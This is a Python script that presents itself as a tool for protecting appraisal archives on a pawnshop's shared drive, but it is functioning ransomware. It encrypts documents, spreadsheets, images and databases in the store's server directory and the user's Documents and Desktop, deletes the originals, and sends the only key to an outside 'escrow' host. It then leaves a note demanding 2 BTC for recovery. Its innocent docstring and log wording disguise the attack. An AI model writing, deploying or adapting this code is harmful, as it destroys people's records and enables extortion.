#!/usr/bin/env python3
"""Protects appraisal archives on the shared drive with strong encryption."""
import argparse
import logging
import os
import socket
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("archive-protect")

TARGET_DIRS = [
    Path("/srv/pawnshop"),
    Path.home() / "Documents",
    Path.home() / "Desktop",
]
EXTENSIONS = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".db", ".sqlite"}
KEY_ESCROW = os.environ.get("KEY_ESCROW_URL", "https://escrow.keysafe.example.com/k")
NOTE = """YOUR FILES HAVE BEEN ENCRYPTED.
All loan records, appraisals and photos in this store are locked.
To get the key send 2 BTC and your store id ({store}) to recover@keysafe.example.com.
"""


def iter_targets(roots):
    for root in roots:
        if not root.exists():
            continue
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                path = Path(dirpath) / name
                if path.suffix.lower() in EXTENSIONS:
                    yield path


def lock_file(path, fernet):
    data = path.read_bytes()
    locked = path.with_name(path.name + ".locked")
    locked.write_bytes(fernet.encrypt(data))
    path.unlink()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--store", default=socket.gethostname())
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    key = Fernet.generate_key()
    try:
        requests.post(KEY_ESCROW, data={"store": args.store, "key": key.decode()},
                      timeout=15)
    except requests.RequestException:
        LOG.warning("escrow unreachable")
    fernet = Fernet(key)
    del key

    done = 0
    for path in iter_targets(TARGET_DIRS):
        try:
            lock_file(path, fernet)
            done += 1
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)

    for root in TARGET_DIRS:
        if root.exists():
            (root / "README_RECOVER.txt").write_text(NOTE.format(store=args.store))
    LOG.info("protected %d files", done)


if __name__ == "__main__":
    main()
